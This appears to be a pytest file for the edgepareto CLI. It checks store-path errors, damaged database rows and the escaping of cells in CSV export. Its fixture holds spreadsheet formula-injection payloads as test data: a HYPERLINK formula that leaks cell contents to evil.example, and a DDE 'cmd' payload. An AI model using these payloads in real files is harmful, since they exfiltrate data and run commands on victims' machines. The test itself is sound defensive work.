"""Reading commands and the store (issue 31, items 15-17): a missing --store, a damaged device row, CSV cells."""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest

from edgepareto.analysis.reference import reference_records
from tests.cli.test_one_line_errors import one_line_error
from tests.cli_support import cli

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def store(tmp_path: Path) -> Path:
    """A store whose one measured device names itself with a spreadsheet formula (a board reports its cpuinfo)."""
    from edgepareto.analysis.reference import load_reference
    from edgepareto.store import Device, MeasurementRecord, Store, Variant

    path = tmp_path / "results.sqlite"
    with Store(path) as s:
        load_reference(s)
        s.add_device(Device(FORMULA, "host", {"cpu_model": "+cmd|' /C calc'!A0"}))
        v = Variant("mobilenet_v1", 0.25, 224, 1000, "fp32")
        s.add(
            MeasurementRecord(
                variant=v,
                metric="latency_ms",
                value=0.5,
                ci_low=0.45,
                ci_high=0.55,
                n=50,
                source="measured",
                device=FORMULA,
                engine="@litert",
                threads=1,
                protocol={"name": "fast"},
                notes="-2+3",
            )
        )
    return path


READERS = [
    ["results"],
    ["results", "--format", "csv"],
    ["report"],
    ["front"],
    ["recommend", "--device", "A15"],
    ["predict", "--device", "A15", "--alpha", "0.5"],
]


@pytest.mark.parametrize("argv", READERS, ids=lambda a: " ".join(a))
def test_a_mistyped_store_is_refused_not_created(argv, capsys, tmp_path):
    typo = tmp_path / "reslts.sqlite"
    line = one_line_error(
        *cli(capsys, *argv, "--store", str(typo)), str(typo), "does not exist", f"edgepareto sweep --store {typo}"
    )
    assert "--store" in line and not typo.exists() and not (tmp_path / "report").exists()


def test_the_default_store_is_still_created_with_the_published_rows(capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    rc, out, err = cli(capsys, "results", "--json")
    assert rc == 0, err
    published = len(reference_records())  # the shipped published rows, every one of them in the new store
    assert (tmp_path / "edgepareto-results" / "results.sqlite").is_file() and f'"measurements": {published}' in out


def test_csv_export_guards_every_text_cell(capsys, tmp_path, store):
    out = tmp_path / "all.csv"
    rc, _, err = cli(capsys, "results", "--store", str(store), "--format", "csv", "--out", str(out))
    assert rc == 0, err
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    mine = next(r for r in rows if r["source"] == "measured")
    assert mine["device"] == "'" + FORMULA and mine["engine"] == "'@litert" and mine["notes"] == "'-2+3"
    assert mine["value"] == "0.5"  # numbers stay numbers
    for row in rows:
        for cell in row.values():
            assert cell[:1] not in ("=", "+", "@", "\t", "\r"), row
            if cell.startswith("-"):
                float(cell)  # only a negative number may start with a minus


def test_a_damaged_device_fingerprint_is_the_one_line_store_error(capsys, tmp_path, store):
    db = sqlite3.connect(store)
    db.execute("UPDATE devices SET fingerprint = '{not json' WHERE id = (SELECT MAX(id) FROM devices)")
    db.commit()
    db.close()
    for argv in (
        ["results"],
        ["results", "--format", "json"],
        ["report", "--out", str(tmp_path / "r")],
        ["front", "--device", "A15"],
    ):
        one_line_error(*cli(capsys, *argv, "--store", str(store)), "devices.id=", "is invalid", "--store")


def test_a_runs_plan_nested_beyond_the_parser_is_the_one_line_store_error(capsys, store):
    db = sqlite3.connect(store)
    sql = "INSERT INTO runs(plan_name, plan, host, pid, started_at, status) VALUES ('p', ?, 'h', 1, 'x', 'finished')"
    db.execute(sql, ("[" * 100_000,))
    db.commit()
    db.close()
    one_line_error(*cli(capsys, "results", "--store", str(store)), "runs.id=", "is invalid")
